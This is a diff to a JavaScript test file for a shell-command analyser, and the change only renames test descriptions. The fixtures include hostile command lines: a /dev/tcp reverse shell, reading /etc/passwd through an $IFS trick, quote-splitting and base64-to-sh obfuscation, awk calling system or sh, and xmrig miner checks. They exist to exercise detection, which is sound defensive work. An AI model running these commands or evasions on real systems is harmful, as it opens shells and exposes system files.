@@ -36,7 +36,7 @@ describe('a command line', () => {
     "sh -c ps aux | grep xmrig | awk '{print $2}'",
   ];
   for (const line of looks) {
-    it(`only looks: ${line}`, () => {
+    it(`only reads: ${line}`, () => {
       assert.deepEqual(programsOf(line), []);
       assert.doesNotMatch(actingText(line), /xmrig/);
     });
@@ -112,13 +112,13 @@ describe('a command line', () => {
     it(`runs something: ${line}`, () => assert.ok(programsOf(line).includes(program), String(programsOf(line))));
   }
 
-  it('only looks by programs from where systems keep theirs', () => {
+  it('only reads if the program is in a system folder', () => {
     for (const ps of ['ps', '/bin/ps', '/usr/bin/ps', '/sbin/ps', '/usr/sbin/ps'])
       assert.deepEqual(actingParts(ps), []);
     for (const ps of ['/tmp/ps', './ps', '/opt/ps', '/tmp/usr/bin/ps']) assert.deepEqual(actingParts(ps), [ps]);
   });
 
-  it('starts nothing of what a program is told besides', () => {
+  it('does not run the arguments of a program', () => {
     for (const line of [
       'sudo -u xmrig id',
       'exec -a xmrig id',
@@ -140,7 +140,7 @@ describe('a command line', () => {
     }
   });
 
-  it('does more than look where it is told to run, or to write, what it finds', () => {
+  it('does more than read if it runs or writes what it finds', () => {
     for (const line of [
       `awk 'BEGIN{system("id")}'`,
       `awk '{print | "sh"}' a`,
@@ -158,12 +158,12 @@ describe('a command line', () => {
     }
   });
 
-  it('is taken apart outside of quotes alone', () => {
+  it('is split only outside quotes', () => {
     assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tee e`), ['echo "a; b" ', "; echo 'c | d' ", '| tee e']);
     assert.deepEqual(actingParts('bash -i >& /dev/tcp/h/1 0>&1'), ['bash -i >& /dev/tcp/h/1 0>&1']);
   });
 
-  it('is read without quotes and escapes, and decoded', () => {
+  it('is read without quotes and escapes, and with base64 decoded', () => {
     assert.match(actingText(`b''as\\h -i`), /\nbash -i/);
     assert.match(actingText('cat$IFS/etc/passwd'), /cat \/etc\/passwd/);
     assert.match(actingText(`echo ${Buffer.from('hidden words here').toString('base64')} | sh`), /hidden words here/);
